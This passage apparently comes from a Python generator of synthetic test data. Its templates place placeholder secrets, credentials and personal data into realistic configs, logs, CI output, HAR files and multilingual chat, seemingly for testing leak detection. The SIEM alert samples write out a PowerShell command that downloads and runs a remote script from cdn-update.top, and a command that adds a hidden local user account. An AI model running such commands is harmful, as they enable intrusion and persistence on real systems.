    "{\n  \"type\": \"aws_iam_access_key\",\n  \"name\": \"ci\",\n  \"instances\": [{\"attributes\": {\"id\": \"<%sec:akia%>\", \"secret\": \"<%sec:awssecret%>\", \"user\": \"ci-deploy\", \"status\": \"Active\"}}]\n}",
    "\"aws_db_instance\": {\"attributes\": {\"address\": \"orders-prod.<%~sha12%>.eu-central-1.rds.amazonaws.com\", \"username\": \"orders\", \"password\": \"<%sec:pws%>\", \"port\": 5432, \"arn\": \"<%~arn%>\"}}",
    "terraform.tfstate serial 214, lineage <%~uuid%>, terraform_version <%~semver%>; outputs: {\"vpc_id\":\"vpc-<%~span%>\",\"account_id\":\"<%~acct%>\",\"nat_ip\":\"<%ip4%>\"}",
    "resource \"random_password\" \"redis\" result = \"<%sec:pws%>\" (sensitive value stored in plain text in state!)",
    "module.gke.google_container_cluster.primary: master_auth.0.cluster_ca_certificate = \"<%~lit:LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t...%>\"",
    "\"google_service_account_key\": {\"private_key\": \"<%sec:PK8|b64%>\", \"public_key_type\": \"TYPE_X509_PEM_FILE\", \"key_algorithm\": \"KEY_ALG_RSA_2048\"}",
    "variable \"db_password\" { sensitive = true }  # set via TF_VAR_db_password=<%~var:DB_PASSWORD%> in CI; example key <%~akiaex%>",
    "tfstate diff: ~ aws_security_group_rule.ssh cidr_blocks = [\"<%ip4%>/32\"] -> [\"<%ip4%>/32\"]",
    "azurerm_storage_account.logs: primary_connection_string = \"DefaultEndpointsProtocol=https;AccountName=logsprod<%d:3%>;AccountKey=<%sec:azkey%>;EndpointSuffix=core.windows.net\"",
    "cloudflare_api_token.dns: value = \"<%sec:hex40%>\", id = \"<%~md5%>\"",
    "output \"admin_email\" { value = \"<%~exemail%>\" }  # owner tag; the state bucket is <%~arn%>",
)

fam('helm_values_k8s', 'en',
    "postgresql:\n  auth:\n    username: keycloak\n    password: \"<%sec:pw%>\"\n    existingSecret: \"\"\n  primary:\n    persistence:\n      size: 20Gi",
    "image:\n  repository: ghcr.io/acme/api\n  tag: <%~semver%>\n  digest: <%~digest%>\nenv:\n  - name: SENTRY_RELEASE\n    value: \"<%~sha7%>\"\n  - name: DB_PASSWORD\n    value: <%~helmref:secrets.dbPassword%>",
    "apiVersion: v1\nkind: Secret\nmetadata:\n  name: smtp\n  uid: <%~uuid%>\ntype: Opaque\ndata:\n  SMTP_PASSWORD: <%sec:pw|b64%>\n  SMTP_USER: <%email:en,d=mailer.acme-shop.com|b64%>",
    "ingress:\n  hosts:\n    - api.acme-shop.com\n  annotations:\n    nginx.ingress.kubernetes.io/whitelist-source-range: \"<%ip4%>/32,<%~cidr%>\"",
    "grafana:\n  adminUser: admin\n  adminPassword: <%sec:pwh%>\n  smtp:\n    user: alerts\n    password: <%~gharef:GRAFANA_SMTP%>",
    "externalSecrets:\n  - key: prod/payments/stripe\n    property: secret_key   # value lives in AWS Secrets Manager, not here\nresources:\n  limits:\n    cpu: 500m",
    "redis:\n  auth:\n    password: <%sec:pws%>\nmetrics:\n  serviceMonitor:\n    enabled: true\nnodeSelector:\n  kubernetes.io/hostname: ip-<%pick:10-0-12-7,10-2-3-44%>",
    ".dockerconfigjson: {\"auths\":{\"registry.acme.io\":{\"auth\":\"<%basic:ci-bot%>\"}}}",
    "argocd app diff: - value: <%~redacted%>\n+ value: <%sec:glpat%>",
    "certManager:\n  acme:\n    email: <%email:en,d=acme-shop.com%>\n    server: https://acme-v02.api.letsencrypt.org/directory\n  cloudflareApiToken: <%sec:hex40%>",
    "values-prod.yaml L88: slackWebhook: <%sec:slackhook%>",
)

fam('docker_inspect_compose', 'en',
    "[{\"Id\": \"<%~sha256%>\", \"Config\": {\"Env\": [\"PATH=/usr/local/bin:/usr/bin\", \"POSTGRES_PASSWORD=<%sec:pw%>\", \"PGDATA=/var/lib/postgresql/data\"], \"Image\": \"postgres:16\"}, \"NetworkSettings\": {\"IPAddress\": \"<%ip4:priv%>\", \"MacAddress\": \"<%~mac%>\"}}]",
    "services:\n  api:\n    image: acme/api@<%~digest%>\n    environment:\n      - REDIS_URL=redis://:<%sec:pws%>@redis:6379/0\n      - LOG_LEVEL=debug",
    "docker login -u ci-bot -p <%sec:docker%> registry-1.docker.io",
    "\"Labels\": {\"org.opencontainers.image.revision\": \"<%~sha1%>\", \"org.opencontainers.image.version\": \"<%~semver%>\", \"maintainer\": \"<%~exemail:example.org%>\"}",
    "~/.docker/config.json: {\"auths\": {\"ghcr.io\": {\"auth\": \"<%basic:octo-bot%>\"}}, \"credsStore\": \"desktop\"}",
    "docker run -e MYSQL_ROOT_PASSWORD=<%sec:pwh%> -e MYSQL_DATABASE=shop -p 3306:3306 mysql:8.4",
    "docker history output: <missing> 3 weeks ago ARG NPM_TOKEN=<%sec:npm%> 0B",
    "\"HostConfig\": {\"DNS\": [\"<%~dns%>\", \"<%~dns%>\"], \"ExtraHosts\": [\"db.internal:<%ip4:priv%>\"], \"ShmSize\": 67108864}",
    "compose.override.yml: MINIO_ROOT_PASSWORD: ${MINIO_ROOT_PASSWORD:?set in .env}  # see <%~var:MINIO_ROOT_USER%>",
    "Container logs: Started with GITHUB_TOKEN=<%sec:ghs%> (expires in 1h)",
)

fam('ci_variables_pipelines', 'en',
    "GitLab CI job log:\n$ echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > .npmrc\n$ cat .npmrc\n//registry.npmjs.org/:_authToken=<%sec:npm%>",
    "env:\n  AWS_ACCESS_KEY_ID: ${{ secrets.AWS_ACCESS_KEY_ID }}\n  AWS_SECRET_ACCESS_KEY: <%~gharef:AWS_SECRET_ACCESS_KEY%>\n  AWS_REGION: eu-west-1",
    "Run actions/checkout@<%~sha1%>\n  with:\n    token: <%sec:ghp%>\n    fetch-depth: 0",
    "CI/CD variable export (project 4182): [{\"key\":\"SONAR_TOKEN\",\"value\":\"<%sec:hex40%>\",\"masked\":false},{\"key\":\"DEPLOY_ENV\",\"value\":\"prod\",\"masked\":false}]",
    "jenkins console: + curl -u deploy:<%sec:pwh%> https://nexus.acme.dev/repository/releases/ -T app-<%~semver%>.jar",
    "circleci: Build #<%~build%> triggered by release-bot on commit <%~sha7%> (branch release/<%~semver%>)",
    "bitbucket-pipelines.yml: - pipe: atlassian/aws-s3-deploy:<%~semver%> variables: AWS_ACCESS_KEY_ID: <%sec:akia%> AWS_SECRET_ACCESS_KEY: <%sec:awssecret%>",
    "azure-pipelines: ##[debug]Evaluating: variables['ARM_CLIENT_SECRET'] => <%sec:pws%>",
    "Travis: export PYPI_TOKEN=<%sec:pypi%>  # TODO move to encrypted env",
    "github actions summary: cache key node-modules-<%~sha256%>, run id <%~num:10%>, attempt 2, runner ip <%ip4%>",
    "GitLab runner registration: gitlab-runner register --url https://gitlab.acme.dev --token <%sec:glrt%>",
)

fam('crash_dumps_stacktraces', 'en',
    "Traceback (most recent call last):\n  File \"/srv/app/billing.py\", line 88, in charge\n    stripe.Charge.create(api_key=\"<%sec:stripe%>\", amount=amount)\nstripe.error.CardError: Your card was declined. (card ending <%~last4%>)",
    "java.sql.SQLException: Access denied for user 'report'@'etl-worker-3' (using password: YES)\n\tat com.mysql.cj.jdbc.exceptions.SQLError.createSQLException(SQLError.java:130)\n\tat com.acme.ReportJob.run(ReportJob.java:57)",
    "panic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=<%~hexaddr%> pc=<%~hexaddr%>]\ngoroutine 41 [running]:\nmain.(*Store).Get(...)\n\t/src/store.go:112",
    "Unhandled exception in worker: ValueError: invalid literal for int() with base 10: '<%ssn%>' (field customer.ssn, record <%~uuid%>)",
    "Crash report <%~uuid%>\nApp version <%~semver%> build <%~build%>\nDevice: Pixel 8, Android 15\nUser: <%email:en%>\nThread main: java.lang.IllegalStateException at com.acme.pay.CardForm.validate(CardForm.kt:44) input=\"<%card:visa,plain%>\"",
    "core dump strings excerpt: HOME=/root  PGPASSWORD=<%sec:pws%>  HOSTNAME=worker-<%~sha7%>  SHLVL=1",
    "Sentry event: TypeError: Cannot read properties of undefined (reading 'iban') – request body {\"iban\":\"<%iban:DE,plain%>\",\"holder\":\"<%name:de%>\"}",
    "minidump: module ntdll.dll 10.0.22621.3527, exception 0xC0000005 at <%~hexaddr%>; guid <%~UUID%>",
    "Exception in thread \"main\" redis.clients.jedis.exceptions.JedisDataException: WRONGPASS invalid username-password pair (url=redis://default:<%sec:pw%>@redis-master.cache.svc:6379)",
    "ERROR [auth] token verification failed for Bearer <%sec:jwt%>: signature expired",
)

fam('har_files_browser', 'en',
    "{\"request\":{\"method\":\"POST\",\"url\":\"https://api.acme-bank.com/v2/login\",\"headers\":[{\"name\":\"Authorization\",\"value\":\"Bearer <%sec:jwt%>\"},{\"name\":\"X-Request-Id\",\"value\":\"<%~uuid%>\"}]}}",
    "{\"name\":\"Cookie\",\"value\":\"_ga=GA1.2.<%~num:10%>.<%~epoch%>; session=<%sec:hex64%>; consent=true\"}",
    "\"postData\":{\"mimeType\":\"application/x-www-form-urlencoded\",\"text\":\"email=<%email:en|pct%>&password=<%sec:pwh|pct%>&remember=1\"}",
    "\"response\":{\"status\":200,\"content\":{\"text\":\"<%email:de|b64%>\",\"encoding\":\"base64\"}},\"serverIPAddress\":\"<%ip4%>\"",
    "\"queryString\":[{\"name\":\"key\",\"value\":\"<%sec:gapi%>\"},{\"name\":\"libraries\",\"value\":\"places\"}]",
    "\"timings\":{\"blocked\":0.8,\"dns\":12.1,\"connect\":34.0,\"ssl\":22.9,\"send\":0.1,\"wait\":143.2},\"_initiator\":{\"type\":\"script\"},\"pageref\":\"page_<%r:1,9%>\",\"startedDateTime\":\"<%~ts%>\"",
    "\"url\":\"https://checkout.acme-shop.com/confirm?order=<%~order:ORD%>&email=<%email:fr|pct%>&phone=<%phone:fr,e164|pct%>\"",
    "{\"name\":\"x-api-key\",\"value\":\"<%sec:hex32%>\"},{\"name\":\"x-amzn-trace-id\",\"value\":\"Root=1-<%~span%>-<%~sha12%><%~sha12%>\"}",
    "\"serverIPAddress\":\"<%ip6%>\",\"connection\":\"443\",\"_securityState\":\"secure\",\"_resourceType\":\"fetch\"",
    "\"text\":\"{\\\"user\\\":{\\\"email\\\":\\\"<%email:en|jsonu%>\\\",\\\"card\\\":\\\"<%~mask:stars%>\\\"}}\"",
)

fam('git_config_commit_metadata', 'en',
    "[user]\n\tname = <%name:en%>\n\temail = <%email:en%>\n[credential]\n\thelper = store\n[url \"https://oauth2:<%sec:glpat%>@gitlab.com/\"]\n\tinsteadOf = https://gitlab.com/",
    "commit <%~sha1%>\nAuthor: <%name:de%> <<%email:de%>>\nDate:   Tue Mar 4 10:12:55 2025 +0100\n\n    Fix rounding in VAT calculation",
    "~/.git-credentials: https://<%pick:jdoe,octocat-dev,mk-ci%>:<%sec:ghp%>@github.com",
    "git log --format='%H %ae' | head -3\n<%~sha1%> <%email:en%>\n<%~sha1%> <%~exemail:example.org%>\n<%~sha1%> <%~exemail%>",
    "Signed-off-by: <%name:pl%> <<%email:pl%>>\nCo-authored-by: <%name:nl%> <<%~exemail%>>",
    "gpg: Signature made Thu 12 Jun 2025, using EDDSA key <%~sha1%>\ngpg: Good signature from \"Release Bot\"",
    "remote: Invalid username or password.\nfatal: Authentication failed for 'https://bot:<%sec:ghpat%>@github.com/acme/infra.git/'",
    "git tag -a v<%~semver%> -m 'release' && git push origin v<%~semver%>  # pushed by CI, object <%~sha1%>",
    ".gitconfig [sendemail] smtpuser = release-bot smtppass = <%sec:pwh%> smtpserver = smtp.gmail.com",
    "git blame: <%~sha7%> (<%name:fr%> 2024-11-02) const API_KEY = \"<%sec:sendgrid%>\";",
)

fam('dotenv_and_config_files', 'en',
    "# .env.production\nDATABASE_URL=postgres://shop:<%sec:pws%>@db-primary.internal:5432/shop\nREDIS_URL=redis://localhost:6379\nSENDGRID_API_KEY=<%sec:sendgrid%>\nNODE_ENV=production",
    "[database]\nhost = db.internal\nuser = etl\npassword = <%sec:pw2%>\n[smtp]\npassword = <%~redacted%>",
    "spring.datasource.password=<%sec:pws%>\nspring.mail.username=<%email:en,d=acme-mail.com%>\nspring.mail.password=<%sec:pw%>",
    "ANTHROPIC_API_KEY=<%sec:anthropic%>\nHF_TOKEN=<%sec:hf%>\nMODEL=claude-sonnet",
    "wp-config.php: define( 'DB_PASSWORD', '<%sec:pwh%>' ); define( 'AUTH_KEY', '<%sec:pws%>' );",
    "appsettings.json: \"ConnectionStrings\": {\"Default\": \"Server=sql-crm-01;Database=Crm;User Id=crm_app;Password=<%sec:pws%>;TrustServerCertificate=True\"}",
    ".npmrc: //npm.pkg.github.com/:_authToken=<%sec:ghp%>\n@acme:registry=https://npm.pkg.github.com",
    "config.example.env – copy to .env and fill in: STRIPE_SECRET_KEY=<%~lit:sk_live_<your key here>%>  TWILIO_ACCOUNT_SID=<%~twsid%>  AWS_ACCESS_KEY_ID=<%~akiaex%>",
    "TELEGRAM_BOT_TOKEN=<%sec:telegram%>\nTELEGRAM_CHAT_ID=-100<%~num:10%>",
    "~/.pgpass: <%ip4%>:5432:*:replicator:<%sec:pws%>",
    "settings.py: EMAIL_HOST_PASSWORD = '<%sec:pw%>'  SECRET_KEY = '<%sec:pws%>'  ALLOWED_HOSTS = ['api.acme.io']",
    "rclone.conf:\n[b2]\ntype = b2\naccount = <%~sha12%>\nkey = <%sec:hex40%>",
    "~/.ssh/id_ed25519:\n<%sec:SSH%>\n~/.ssh/id_ed25519.pub: <%~sshpub%> dev@laptop",
    "age key file:\n# created: 2025-01-14T10:22:31Z\n# public key: <%~agepub%>\n<%sec:age%>",
)

fam('structured_json_logs', 'en',
    "{\"ts\":\"<%~ts%>\",\"level\":\"info\",\"msg\":\"login ok\",\"user\":\"<%email:en%>\",\"client_ip\":\"<%ip4%>\",\"trace_id\":\"<%~trace%>\",\"span_id\":\"<%~span%>\"}",
    "{\"level\":\"error\",\"msg\":\"payment failed\",\"card\":\"<%card:mc,plain%>\",\"order\":\"<%~order:SO%>\",\"latency_ms\":412}",
    "{\"event\":\"kyc.submitted\",\"ssn\":\"<%ssn%>\",\"dob\":\"<%dob:iso%>\",\"request_id\":\"<%~reqid%>\"}",
    "{\"level\":\"warn\",\"msg\":\"rate limit\",\"remote_addr\":\"<%ip6%>\",\"route\":\"/v1/search\",\"count\":<%r:100,999%>}",
    "time=<%~ts%> level=DEBUG msg=\"outgoing request\" url=https://api.telegram.org/bot<%sec:telegram%>/sendMessage status=200",
    "{\"msg\":\"user updated\",\"diff\":{\"phone\":[\"<%~p555%>\",\"<%phone:us%>\"]},\"actor\":\"<%~uuid%>\"}",
    "{\"level\":\"info\",\"msg\":\"healthcheck\",\"upstream\":\"<%~docip%>\",\"resolver\":\"<%~dns%>\",\"version\":\"<%~ver%>\"}",
    "{\"level\":\"info\",\"http\":{\"method\":\"GET\",\"path\":\"/api/users?email=<%email:gb|pct%>\",\"status\":200},\"dd\":{\"trace_id\":\"<%~num:19%>\",\"span_id\":\"<%~num:19%>\"}}",
    "2025-06-01T11:02:44Z WARN auth: basic auth header Basic <%basic:svc-report%> from svc-report-7d9f",
    "{\"msg\":\"nino lookup\",\"nino\":\"<%nino:plain%>\",\"result\":\"match\",\"took_ms\":23}",
    "{\"msg\":\"webhook delivered\",\"endpoint\":\"<%sec:slackhook%>\",\"status\":200}",
    "{\"level\":\"info\",\"msg\":\"order shipped\",\"tracking\":\"<%~tracking:dhl%>\",\"isbn\":\"<%~isbn%>\",\"geo\":\"<%~coords%>\"}",
)

fam('otel_traces_spans', 'en',
    "span name=POST /checkout trace_id=<%~trace%> span_id=<%~span%> parent=<%~span%> attributes={http.client_ip=<%ip4%>, enduser.id=<%~uuid%>}",
    "resourceSpans[0].scopeSpans[0].spans[3].attributes: db.statement=\"SELECT * FROM users WHERE email = '<%email:de%>'\", db.system=postgresql, net.peer.name=pg-users",
    "traceparent: 00-<%~trace%>-<%~span%>-01\ntracestate: vendor=<%~sha12%>",
    "Jaeger span tag http.url=https://api.acme.io/v1/accounts?api_key=<%sec:hex32%>&limit=50",
    "span event exception: message=\"duplicate key value violates unique constraint users_phone_key\" detail=\"Key (phone)=(<%phone:de,e164%>) already exists.\"",
    "otel-collector: exporter otlphttp headers {\"x-honeycomb-team\":\"<%sec:hex32%>\"} endpoint https://api.honeycomb.io",
    "Zipkin: {\"traceId\":\"<%~trace%>\",\"id\":\"<%~span%>\",\"kind\":\"SERVER\",\"localEndpoint\":{\"serviceName\":\"cart\",\"ipv4\":\"<%ip4:priv%>\"},\"duration\":<%r:1000,90000%>}",
    "span attribute rpc.request.metadata.authorization=[\"Bearer <%sec:ya29%>\"]",
    "Tempo search: service.name=\"payments\" && span.card.last4=\"<%~last4%>\" → 14 traces, first <%~trace%>",
    "span: messaging.destination=orders, messaging.message.id=<%~uuid%>, messaging.kafka.partition=3, net.sock.peer.addr=<%ip6%>",
)

fam('siem_alerts_soc', 'en',
    "ALERT [High] Impossible travel: user <%email:en,d=acme-corp.com%> signed in from <%ip4%> (DE) and <%ip4%> (VN) within 14 minutes. Rule id <%~uuid%>.",
    "Wazuh rule 5712: sshd brute force from <%ip4%>, 48 attempts, target host web-prod-2, agent id 007",
    "Defender alert: suspicious PowerShell: IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.top/a.ps1'); file hash <%~sha256%>",
    "DLP incident #<%~num:6%>: outbound email to <%email:en%> contained 3 credit card numbers, e.g. <%card:visa%>, and 1 SSN <%ssn%>.",
    "Secret scanning alert: GitHub detected an AWS key pair in acme/infra@<%~sha7%>: <%sec:akia%> / <%sec:awssecret%>",
    "CrowdStrike detection: process cmd.exe /c net user backup <%sec:pwh%> /add; parent winword.exe; sha256 <%~sha256%>",
    "Splunk: index=proxy src_host=LAPTOP-7QK2 dest=pastebin.com bytes_out=<%r:10000,900000%> | stats count by user",
    "Threat intel match: IOC <%ip4%> (C2, confidence 80) seen in firewall logs; related domain update-check[.]top; TLP:AMBER",
    "False positive: alert on 'public DNS traffic' to <%~dns%> and test traffic to <%~docip%> from <%~docip6%>. Closed.",
    "Okta system log: user.session.start FAILURE for <%email:en%> from <%ip6%>, reason INVALID_CREDENTIALS, UA curl/8.5",
    "Phishing report: sender <%email:ru%> asked recipient to reply with their NI number; mail headers show Received: from [<%ip4%>]",
    "Honeytoken triggered: canary AWS key <%sec:akia%> used from <%ip4%> at <%~ts%>",
)


# ================================================================ templates: mixed, obfuscations, OCR
fam('es_us_reclamos_seguro_medico', 'es',
    "Reclamo de seguro médico #<%~claim:MED%>: asegurado <%name:es%>, número de Seguro Social <%ssn%>, fecha de nacimiento <%dob:us%>.",
    "Hola, me negaron la cobertura. Mi SSN es <%ssn:plain%> y el número de póliza <%~policy:HMO%>. ¿Me pueden llamar? Gracias.",
    "Formulario de Medicaid: solicitante con ITIN <%~itin%> (no tiene SSN); dependiente con SSN <%ssn%>.",
    "Pago del deducible con tarjeta <%card:visa%>, autorización <%~pnr%>, monto <%~amount%> USD.",
    "Nota del agente: la clienta dictó su seguro social como '<%ssn|words%>'. Verificado contra el expediente <%~case:en%>.",
    "Error de validación: SSN '<%~badssn:s0000%>' inválido (serie 0000). SSN '<%~badssn:a000%>' inválido (área 000).",
    "EOB: servicio del <%~date:us%>, código CPT 99214, NPI del proveedor <%~num:10%>, monto permitido <%~amount%>.",
    "Carta escaneada: Social Security No.: <%ssn|nbsp%>  Miembro ID <%~pnr%><%~num:6%>",
    "Apelación: el número <%~samplessn%> que aparece en el folleto es solo un ejemplo. El mío es <%ssn%>.",
    "Tarjeta del plan dental: grupo <%~num:6%>, miembro <%~num:9%>; la tarjeta de crédito registrada es <%card:mc%>.",
    "Chat: mi número de seguro social empieza con <%!ssn@s%><%@s[0:3]%> y termina con <%@s[7:11]%>, ¿necesitan el resto?",
)

fam('pl_praca_w_wielkiej_brytanii', 'pl',
    "Cześć, pracuję w Leeds przez agencję. Mój National Insurance number to <%nino%>, a pracodawca wpisał zły. Co robić?",
    "Dane do umowy: imię i nazwisko <%name:pl%>, NI <%nino:plain%>, konto w UK: sort code <%~sortcode%>, nr konta <%~acctno:gb%>.",
    "Na formularzu jest przykład <%~samplenino%> – nie wpisuj go, wpisz swój numer z listu z HMRC.",
    "HMRC odrzuciło numer <%~badnino:l2%>, bo druga litera nie może być O. Poprawny numer żony: <%nino%>.",
    "Zwrot podatku z UK: przelew na polskie konto <%iban:PL%>, NINO <%nino%>, rok podatkowy 2024/25.",
    "Pisz na <%email:pl%> albo na WhatsApp <%phone:gb,e164%>.",
    "Umowa najmu w Bristolu: depozyt zabezpieczony w DPS, numer <%~num:10%>, data wprowadzenia <%~date:gb%>.",
    "Kopia listu (OCR): Your National Insurance number is <%nino|nl=6%> – keep this letter safe.",
)

fam('de_entwickler_chat_leaks', 'de',
    "Kannst du mal schauen, warum der Deploy hängt? Ich hab den Token <%sec:glpat%> in die Pipeline gepackt, sollte eigentlich gehen.",
    "Achtung: In Confluence steht noch der alte Stripe-Key <%sec:stripe%> – bitte rotieren und Seite löschen.",
    "Zugang zur Staging-DB: Host <%ip4:priv%>, User staging, Passwort <%sec:pwh%> (nur intern!).",
    "Das ist nur der Beispiel-Key aus der AWS-Doku (<%~akiaex%>), kein echter. Der echte liegt im Vault unter secret/prod/aws.",
    "Hab aus Versehen meinen OpenAI-Key gepostet: <%sec:openai%> – ist schon widerrufen, trotzdem sorry.",
    "Webhook für den Alarm-Kanal: <%sec:slackhook%>",
    "Commit <%~sha1%> enthält die .env mit SMTP_PASS=<%sec:pw%> – bitte History bereinigen (git filter-repo).",
    "Der Fehler 'invalid_grant' kommt, weil der Refresh-Token <%~redacted%> abgelaufen ist; neues Token per Device-Flow holen.",
    "Für die Hetzner-API: export HCLOUD_TOKEN=<%sec:hex64%>  – und nicht in die Shell-History schreiben!",
    "Build <%~build%> auf <%~ver%> rot wegen Sonar-Quality-Gate, Trace-ID <%~trace%>. Keine Zugangsdaten betroffen.",
    "Basic-Auth für das Monitoring: Authorization: Basic <%basic:monitor%>",
    "SSH-Key für den Jump-Host (bitte sofort austauschen):\n<%sec:RSA%>",
)

fam('ru_devops_chat_leaks', 'ru',
    "Коллеги, кто залил в репозиторий токен бота <%sec:telegram%>? Срочно перевыпустите через BotFather.",
    "Пароль от Grafana: <%sec:pwh%>, логин admin. Не забудьте сменить после миграции.",
    "Строка подключения к кликхаусу: clickhouse://default:<%sec:pws%>@ch-01.analytics.local:9000/analytics",
    "Это тестовый ключ из документации Яндекс Облака, не настоящий; настоящий в Lockbox, id <%~uuid%>.",
    "Ключ сервисного аккаунта: {\"id\":\"aje<%~sha12%>\",\"private_key\":\"<%sec:PK8|jsonnl%>\"}",
    "В логах nginx светится API-ключ: GET /api/v1/report?token=<%sec:hex40%> от <%ip4%>",
    "Не путать: <%~twsid%> — это Account SID Twilio, он публичный; auth token — <%sec:hex32%>.",
    "Релиз <%~ver%> выкатили, хеш коммита <%~sha1%>, образ <%~digest%>.",
    "Vault root token на стенде: <%sec:hvs%> — стенд удаляем завтра.",
    "Пишите в личку или на <%email:ru,d=corp-infra.ru%>.",
)

fam('zh_ja_dev_config_leaks', 'zh',
    "同事把阿里云 AccessKey 写进了代码：AccessKeyId=LTAI<%pick:5t,4G,5Q%><%sec:hex32%>?? 不，ID 是 LTAI 开头的那串，Secret 是 <%sec:awssecret%>，请立即禁用。",
    "配置文件 application.yml：spring.redis.password: <%sec:pws%>，spring.datasource.url: jdbc:mysql://mysql-master:3306/shop",
    "微信支付商户 API 密钥（32位）：<%sec:hex32%>，已在商户平台重置。",
    "这个 token 是示例：<%~jwtio%>，不用处理。",
    "钉钉机器人 webhook：https://oapi.dingtalk.com/robot/send?access_token=<%sec:hex64%>",
    "@@ja 設定ファイルに GitHub のトークン <%sec:ghp%> がコミットされていました。履歴から削除済みです。",
    "@@ja .env.local: NEXT_PUBLIC_API_URL=https://api.example.com  SUPABASE_SERVICE_ROLE_KEY=<%sec:jwt%>",
    "@@ja エラー: 認証失敗 (user=batch, host=<%ip4:priv%>)。パスワードは <%~redacted%> でマスクされています。",
    "服务器列表：web1 <%ip4%>，web2 <%ip4%>，子网掩码 <%~netmask%>，网关见附件。",
    "内部 OID：<%~oid%>；证书序列号 <%~sha12%>；公钥 <%~sshpub%>。",
)

fam('obfuscated_contact_multilingual', 'en',
    "@@de Schreib mir einfach: <%email:de|at=de%> – lieber per Mail als per Telefon.",
    "@@fr Mon mail c'est <%email:fr|at=fr%>, pas de majuscules.",
    "@@nl Mail me op <%email:nl|at=nl%> (niet via dit forum).",
    "@@hu Írj nekem: <%email:hu|at=hu%> (rendelésszám <%~num:8%>)",
    "@@sv Maila mig på <%email:sv|at=sv%> så skickar jag kvittot.",
    "@@no Send meg en e-post: <%email:no|at=no%>",
    "@@cs Můj e-mail: <%email:cs|ent%>",
    "@@tr Kart numaram <%!card:visa,sp@c%><%@c[0:9]%> diye başlıyor, devamı <%@c[10:19]%> (sipariş <%~order:TR%>)",
    "@@pl Karta: <%card:mc|fwd%>, ważna do 08/27, zamówienie <%~order:ZAM%>",
    "@@ru Номер карты (перевернул на всякий случай): <%card:mir,plain|rev%>. Код заказа <%~num:8%>",
    "@@de Hier die Nummer (aus dem PDF kopiert): <%card:visa|zw=%>",
    "@@es Mi tarjeta es <%card:visa,plain|words=%>",
    "Reversed for the bots: <%email:en|rev%> (ticket <%~num:6%>)",
    "contact = base64('<%email:gb|b64%>') in the profile blob",
    "@@ja 連絡先：<%email:ja|at=ja%>（アットマークを@に変えてください）",
    "@@ko 메일: <%email:ko|entx%>",
    "@@zh 邮箱：<%email:zh|zw=wj%>",
    "@@fi Tilinumeroni: <%iban:FI|nbsp=202f%>, viite <%~num:10%>",
    "IBAN split over two messages: first part <%!iban:GB@ib%><%@ib[0:9]%> … and the rest <%@ib[10:27]%> (BIC <%~bic%>)",
    "@@uk NI номер (Велика Британія): <%nino|spaced%>",
    "My SSN is <%ssn|digits=fw%> (typed on my phone keyboard), case <%~case:en%>",
    "@@ar رقم بطاقتي <%card:visa|digits=ar%> ورقم الطلب <%~order:SO%>",
    "@@fa شماره کارت: <%card:mc,dash|digits=fa%>",
    "@@hi मेरा ईमेल: <%email:hi|atonly=en2%>",
    "Token in a URL-encoded form post: client_secret=<%sec:pws|pct%>&grant_type=client_credentials&client_id=<%~uuid%>",
    "quoted-printable mail body: Kontakt: <%email:de|qp%>=0A",
    "@@de Kartennummer (vorgelesen): <%card:visa|words=de%>",
)

fam('ocr_scanned_documents', 'en',
    "SCAN p.1/3 — APPLICATlON FOR CREDIT\nName: <%name:en%>   S0cial Security No: <%ssn%>\nDate of Birth: <%dob:us%>   Phone: <%phone:us,n%>",
    "@@de Gehaltsabrechnung (OCR) — Sozialversicherungsnummer 65 <%d:6%> M <%d:3%>, Steuerklasse 1, IBAN: <%iban:DE|nl=12%>, BIC <%~bic%>",
    "@@fr Relevé d'identité bancaire (scan) — Titulaire : <%name:fr%>  IBAN : <%iban:FR%>  Clé RIB <%r:10,97%>  Code guichet <%~num:5%>",
    "Receipt OCR: VISA ************<%~last4%>  AUTH <%~pnr%>  TOTAL <%~amount%>  Thank you!",
    "Faxed form: CARDHOLDER <%name:en%> / CARD NO <%card:amex,sp%> / EXP 11/27 / SIGNATURE ______",
    "@@nl Gescande loonstrook: BSN <%~natid:bsn%>, datum in dienst <%~date:nl%>, personeelsnummer <%~num:6%>.",
    "Scanned UK payslip: NI No. <%nino%>  Tax code 1257L  Employee no <%~num:5%>  Period 07",
    "@@pl Skan umowy (OCR): PESEL <%~natid:pesel%>, nr rachunku <%iban:PL|nl=14%>, tel. <%phone:pl%>",
    "Passport MRZ (scan): P<GBR<%last:gb%><<<%first:gb%><<<<<<<<<<<<<<<<<<<<<\n<%~natid:passport%>4GBR<%~num:7%>M<%~num:7%><<<<<<<<<<<<<<08",
    "OCR noise test: <%~lit:4l11 1111 1l11 1111%> (test card with OCR errors), IBAN <%~lit:DE89 37O4 OO44 O532 O13O OO%> (sample), nothing real on this page.",
    "@@ko 스캔 문서: 생년월일 <%dob:ko_d%> / 카드번호 <%card:visa,dash%> / 유효기간 12/28",
)

fam('fr_pharmacie_mutuelle', 'fr',
    "Ordonnance scannée — patient <%name:fr%>, né le <%dob:fr%>, numéro de sécurité sociale <%~natid:nir%>, mutuelle n° adhérent <%~num:9%>.",
    "Bonjour, pouvez-vous préparer mon renouvellement ? Je passe demain. Mon mail : <%email:fr%>.",
    "Télétransmission refusée : lot <%~num:5%>, facture <%~num:9%>, code rejet 502 ; Carte Vitale en opposition.",
    "Paiement du reste à charge par carte <%card:visa%> — ticket n° <%~num:6%>.",
    "Préparateur : le numéro de lot <%~lot%> du Doliprane est rappelé ; CIP <%~num:13%>, péremption <%~date:fr%>.",
    "Vaccination grippe : patient né le <%dob:fr_l,lo=1941,hi=1960%>, injection le <%~date:fr%>, lot <%~lot%>.",
    "Remboursement mutuelle sur le compte <%iban:FR%> ; décompte n° <%~num:10%> du <%~date:fr%>.",
    "Message laissé au répondeur : rappeler Mme <%last:fr%> au <%phone:fr,n%> pour son traitement.",
)

fam('tr_e_ticaret_kart_destek', 'tr',
    "Sipariş <%~order:TR%>: ödeme <%card:mc%> ile 3 taksit, provizyon kodu <%~pnr%>.",
    "Kartımdan iki kez çekim yapıldı! Kart no son 4 hane <%~last4%>, sipariş no <%~num:10%>.",
    "İade talebi: IBAN'ım <%iban:TR%>, alıcı adı <%name:tr%>.",
    "Sanal POS hata kodu 05 (Red - Onaylanmadı) — kart <%~badcard:visa%> Luhn kontrolünden geçmedi.",
    "Kargo takip no <%~tracking:post%>, teslim tarihi <%~date:de%>, fatura no <%~order:FTR%>.",
    "Müşteri kartı telefonda okudu: <%card:troy|words=%>",
